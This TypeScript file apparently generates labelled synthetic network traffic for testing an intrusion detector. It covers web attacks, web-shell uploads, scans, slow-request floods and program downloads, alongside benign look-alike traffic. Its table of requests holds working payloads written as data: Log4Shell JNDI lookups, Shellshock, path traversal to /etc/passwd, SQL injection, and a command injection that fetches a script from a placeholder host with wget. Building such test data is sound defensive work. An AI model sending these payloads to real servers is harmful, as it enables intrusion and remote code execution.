// Web servers attacked by requests, programs fetched by HTTP, and requests and downloads that only look like these.
import type { Turn } from '../../fixtures/generate/conversation.ts'
import type { Site } from '../../fixtures/generate/demo/places.ts'
import { hex, join, u32 } from '../support/build.ts'
import type { World } from './world.ts'

/** What is sent, as on the wire: target, and a header field or a form. */
export const EXPLOITS: Record<string, { target: string; field?: string; form?: string }> = {
  'log4shell in a field': { target: '/', field: 'User-Agent: $\x7bjndi:ldap://HOST:1389/a}' },
  'log4shell hidden': { target: '/?x=$\x7b$\x7blower:j}$\x7b::-n}di:ldap://HOST/x}' },
  'log4shell encoded in a form': { target: '/login', form: 'user=%24%7Bjndi%3Armi%3A%2F%2FHOST%2Fz%7D' },
  shellshock: { target: '/cgi-bin/status', field: 'User-Agent: () { :; }; /bin/ping -c 1 HOST' },
  'traversal encoded twice': { target: '/cgi-bin/%252e%252e/%252e%252e/%252e%252e/etc/passwd' },
  'traversal of Windows': { target: '/download?file=..\\..\\..\\windows\\win.ini' },
  'command injection': { target: '/setup.cgi?cmd=ping;wget%20http://HOST/m.sh%20-O-' },
  spring: { target: '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x' },
  'union select': { target: "/item?id=1'%20UNION%20ALL%20SELECT%201,user,password%20FROM%20users--" },
  'always true': { target: '/login', form: "name=admin'+OR+'1'%3D'1&pass=x" },
}

/** A script is uploaded, by PUT or in a form whose body has a segment of its own, and called. */
export function webShell(world: World, atS: number, way: 'put' | 'form' | 'split form', from: 'inside' | 'outside'): void {
  const source = from === 'inside' ? world.newcomer() : world.outsider()
  const server = { name: 'shop.corp.test', ip: world.server, rttMs: from === 'inside' ? 0.3 : 30 }
  const file = `${world.brand()}.${world.pick(['php', 'jsp', 'aspx'])}`
  const part = `--x7\r\nContent-Disposition: form-data; name="f"; filename="${file}"\r\n\r\n${'x'.repeat(300)}\r\n--x7--\r\n`
  const head = `POST /upload HTTP/1.1\r\nHost: ${server.name}\r\nContent-Type: multipart/form-data; boundary=x7\r\nContent-Length: ${part.length}\r\n\r\n`
  const upload: Turn[] =
    way === 'put'
      ? [{ from: 'client', data: `PUT /files/${file}/ HTTP/1.1\r\nHost: ${server.name}\r\nContent-Length: 300\r\n\r\n${'x'.repeat(300)}` }]
      : way === 'form'
        ? [{ from: 'client', data: `${head}${part}` }]
        : [
            { from: 'client', data: head },
            { from: 'client', data: part, afterUs: 2_000 },
          ]
  world.tcp(world.at(atS), world.outward(source, server, 80), [...upload, { from: 'server', data: `${OK}${'x'.repeat(200)}` }])
  const call = `POST /files/${file}?c=id HTTP/1.1\r\nHost: ${server.name}\r\nContent-Length: 4\r\n\r\na=ls`
  world.tcp(world.at(atS + 3), world.outward(source, server, 80), [
    { from: 'client', data: call },
    { from: 'server', data: `${OK}${'x'.repeat(200)}` },
  ])
  world.label('http-exploit', `web shell by ${way} from ${from}`, source, world.server, atS, atS + 6, ['unusual-port', 'clear-text-login'])
}

/** A picture is uploaded and shown, a script is uploaded by one and called by another. */
export function uploads(world: World): void {
  const server = { name: 'shop.corp.test', ip: world.server, rttMs: 0.3 }
  const send = (client: string, atS: number, file: string): void => {
    const part = `--x7\r\nContent-Disposition: form-data; name="f"; filename="${file}"\r\n\r\n${'x'.repeat(300)}\r\n--x7--\r\n`
    const head = `POST /upload.php HTTP/1.1\r\nHost: ${server.name}\r\nContent-Length: ${part.length}\r\n\r\n`
    world.tcp(world.at(atS), world.outward(client, server, 80), [
      { from: 'client', data: `${head}${part}` },
      { from: 'server', data: `${OK}${'x'.repeat(200)}` },
    ])
  }
  const get = (client: string, atS: number, path: string): void => {
    world.tcp(world.at(atS), world.outward(client, server, 80), [
      { from: 'client', data: `GET ${path} HTTP/1.1\r\nHost: ${server.name}\r\n\r\n` },
      { from: 'server', data: `${OK}${'x'.repeat(200)}` },
    ])
  }
  send(world.clients[0], 10, 'holiday.png')
  get(world.clients[0], 12, '/files/holiday.png')
  get(world.clients[0], 14, '/upload.php?done=1')
  send(world.clients[0], 20, 'theme.php')
  get(world.clients[1], 30, '/files/theme.php')
}

const request = (name: string, { target, field, form }: (typeof EXPLOITS)[string], sender: string): string => {
  const fill = (text: string): string => text.replaceAll('HOST', sender)
  const body = form === undefined ? '' : fill(form)
  const head = `${form === undefined ? 'GET' : 'POST'} ${fill(target)} HTTP/1.1\r\nHost: ${name}\r\n${field === undefined ? 'User-Agent: Mozilla/5.0' : fill(field)}\r\n`
  return form === undefined
    ? `${head}\r\n`
    : `${head}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n\r\n${body}`
}
const OK = 'HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 200\r\n\r\n'

export function httpExploit(world: World, atS: number, kind: string, from: 'inside' | 'outside', isAnswered: boolean): void {
  const source = from === 'inside' ? world.newcomer() : world.outsider()
  const server = { name: 'shop.corp.test', ip: world.server, rttMs: from === 'inside' ? 0.3 : 30 }
  const turns: Turn[] = [
    { from: 'client', data: request(server.name, EXPLOITS[kind], world.seen(source)) },
    { from: 'server', data: `${OK}${'x'.repeat(200)}` },
  ]
  world.tcp(world.at(atS), world.outward(source, server, 80), turns)
  if (isAnswered) {
    const back: Turn[] = [
      { from: 'client', data: world.bytes(60) },
      { from: 'server', data: world.bytes(300) },
    ]
    world.tcp(world.at(atS + 2), world.outward(world.server, { name: '', ip: source, rttMs: 1 }, 1389), back)
  }
  world.label('http-exploit', `${kind} from ${from}`, source, world.server, atS, atS + 6, ['unusual-port', 'clear-text-login'])
}

const answer = (status: string) => `HTTP/1.1 ${status}\r\nContent-Type: text/html\r\nContent-Length: 90\r\n\r\n${'x'.repeat(90)}`
const get = (name: string, path: string) => `GET ${path} HTTP/1.1\r\nHost: ${name}\r\nUser-Agent: Mozilla/5.0\r\n\r\n`

/** A word list is tried, some of it found: over a few long connections, or with one for each word. */
export function webScan(world: World, atS: number, words: number, everyUs: number, way: 'kept' | 'each', from: 'inside' | 'outside'): void {
  const source = from === 'inside' ? world.newcomer() : world.outsider()
  const server = { name: 'shop.corp.test', ip: world.server, rttMs: from === 'inside' ? 0.3 : 30 }
  const turns = (word: number): Turn[] => [
    { from: 'client', data: get(server.name, `/${world.brand()}${word}`), afterUs: way === 'kept' ? everyUs : 0 },
    { from: 'server', data: answer(word % 40 === 20 ? '200 OK' : '404 Not Found') },
  ]
  const all = Array.from({ length: words }, (_, word) => turns(word))
  if (way === 'each')
    for (const [word, one] of all.entries()) world.tcp(world.at(atS) + word * everyUs, world.outward(source, server, 80), one)
  else world.tcp(world.at(atS), world.outward(source, server, 80), all.flat())
  const seconds = (words * (everyUs + 60_000)) / 1_000_000
  world.label('web-scan', `${words} pages, ${way} from ${from}`, source, world.server, atS, atS + seconds + 2, [
    'unusual-port',
    'long-connection',
  ])
}

/** Requests of which a piece is sent every few seconds, from one machine or several. */
export function slowRequests(world: World, atS: number, connections: number, everyS: number, sources: number, part: 'head' | 'body'): void {
  const server = { name: 'shop.corp.test', ip: world.server, rttMs: 20 }
  const clients = Array.from({ length: sources }, () => world.outsider())
  const field = part === 'head' ? '' : 'Content-Length: 8192\r\n\r\n'
  const begin = `${part === 'head' ? 'GET' : 'POST'} / HTTP/1.1\r\nHost: ${server.name}\r\nUser-Agent: Mozilla/5.0\r\n${field}`
  for (let i = 0; i < connections; i++) {
    const pieces = Array.from(
      { length: 6 },
      (): Turn => ({ from: 'client', data: part === 'head' ? 'X-a: b\r\n' : 'a=b&', afterUs: everyS * 1_000_000 }),
    )
    world.tcp(world.at(atS) + i * 20_000, world.outward(clients[i % sources], server, 80), [{ from: 'client', data: begin }, ...pieces])
  }
  const source = sources === 1 ? clients[0] : null
  world.label(
    'slow-requests',
    `${connections}, ${part} every ${everyS} s, ${sources} senders`,
    source,
    world.server,
    atS,
    atS + everyS * 6 + connections / 50 + 5,
  )
}

/** Many pages wait for news: a server answers each request after half a minute. */
export function longPolling(world: World): void {
  const server = { name: 'chat.corp.test', ip: world.server, rttMs: 20 }
  for (let i = 0; i < 80; i++) {
    const turns: Turn[] = [
      { from: 'client', data: get(server.name, '/events') },
      { from: 'server', data: OK, afterUs: 28_000_000 },
    ]
    world.tcp(world.at(20) + i * 10_000, world.outward(world.outsider(), server, 80), turns)
  }
}

/** A page whose pictures are gone, a machine that asks for a proxy's settings again and again, a map of which most tiles are there. */
export function brokenPages(world: World): void {
  const server = { name: 'shop.corp.test', ip: world.server, rttMs: 0.3 }
  const ask = (client: string, atS: number, path: string, status: string): void => {
    const turns: Turn[] = [
      { from: 'client', data: get(server.name, path) },
      { from: 'server', data: answer(status) },
    ]
    world.tcp(world.at(atS), world.outward(client, server, 80), turns)
  }
  for (let i = 0; i < 22; i++) ask(world.clients[0], 10 + i / 10, `/pictures/${i}.png`, '404 Not Found')
  for (const atS of world.moments(600, 10, 400)) ask(world.clients[1], atS, '/wpad.dat', '404 Not Found')
  for (let i = 0; i < 120; i++) ask(world.clients[2], 10 + i / 10, `/tiles/${i}.png`, i % 3 === 0 ? '404 Not Found' : '200 OK')
}

const PE = join('MZ', new Uint8Array(58), hex('80000000'), new Uint8Array(64), 'PE\0\0', new Uint8Array(300))
const ELF = join(hex('7f454c46 02010100'), new Uint8Array(300))

/** `isSplit`: the body begins in a packet of its own. */
export interface Download {
  program: 'PE' | 'ELF' | 'script' | 'class'
  target: string
  contentType: string
  isNamed: boolean
  isSplit: boolean
}

const BODIES: Record<Download['program'], Uint8Array> = {
  PE,
  ELF,
  script: join('#!/bin/sh\nuname -a\n', new Uint8Array(30)),
  class: join(hex('cafebabe 0000 0034'), new Uint8Array(300)),
}

export function programDownload(
  world: World,
  atS: number,
  { program, target, contentType, isNamed, isSplit }: Download,
  client = world.newcomer(),
): Site {
  const site = world.site()
  const head = `HTTP/1.1 200 OK\r\nContent-Type: ${contentType}\r\nContent-Length: ${BODIES[program].length + 9000}\r\n\r\n`
  const turns: Turn[] = [
    { from: 'client', data: `GET ${target} HTTP/1.1\r\nHost: ${isNamed ? site.name : site.ip}\r\nUser-Agent: curl/8.5\r\n\r\n` },
    ...(isSplit
      ? ([
          { from: 'server', data: head },
          { from: 'server', data: BODIES[program], afterUs: 4_000 },
        ] as Turn[])
      : ([{ from: 'server', data: join(head, BODIES[program]) }] as Turn[])),
    { from: 'server', data: { bytes: 9000 } },
  ]
  const startUs = isNamed ? world.lookUp(world.at(atS), client, site) : world.at(atS)
  world.tcp(startUs, world.outward(client, site, 80), turns)
  world.label('program-download', `${program} as ${contentType}${isNamed ? '' : ' by address'}`, client, site.ip, atS, atS + 8)
  return site
}

/** Requests with what scanners send, but in its right place; texts, pictures and archives whose first bytes are their own. */
export function webDay(world: World): void {
  const client = world.pick(world.clients)
  const site = world.site()
  const targets = [
    '/search?q=rock+%26+roll+(live)&sort=-date',
    "/people?name=O'Brien&or=1",
    '/docs/../img/logo.png',
    '/api/v1/items?filter=%7B%22price%22%3A%7B%22%24gt%22%3A5%7D%7D',
    '/learn/sql/select-from-union?chapter=3',
    '/calc?f=sin(3)%2Bcos(2);mode=deg',
    '/redirect?url=http%3A%2F%2Fexample.org%2F%3Fa%3D1%26b%3D2',
    '/template?name=$%7Buser.name%7D',
  ]
  const bodies: [string, Uint8Array][] = [
    ['text/html', join('<html>', new Uint8Array(200))],
    ['image/png', join(hex('89504e470d0a1a0a'), new Uint8Array(200))],
    ['application/zip', join('PK', hex('0304'), new Uint8Array(200))],
    ['text/plain', join('MZ is how some texts begin, and nothing more.', u32(0), 'x'.repeat(90))],
    ['application/json', join('{"a":"#!/bin/sh"}', new Uint8Array(90))],
  ]
  const startUs = world.lookUp(world.at(world.between(2, world.seconds * 0.8)), client, site)
  targets.forEach((target, index) => {
    const [type, body] = bodies[index % bodies.length]
    world.tcp(startUs + index * 700_000, world.outward(client, site, 80), [
      { from: 'client', data: `GET ${target} HTTP/1.1\r\nHost: ${site.name}\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n\r\n` },
      { from: 'server', data: join(`HTTP/1.1 200 OK\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n`, body) },
    ])
  })
  const service = world.site('download.windowsupdate.com')
  const update = join('HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: 600\r\n\r\n', PE)
  world.tcp(world.lookUp(startUs + 9_000_000, client, service), world.outward(client, service, 80), [
    { from: 'client', data: `GET /c/msdownload/update/software/secu/patch.exe HTTP/1.1\r\nHost: ${service.name}\r\n\r\n` },
    { from: 'server', data: update },
  ])
}
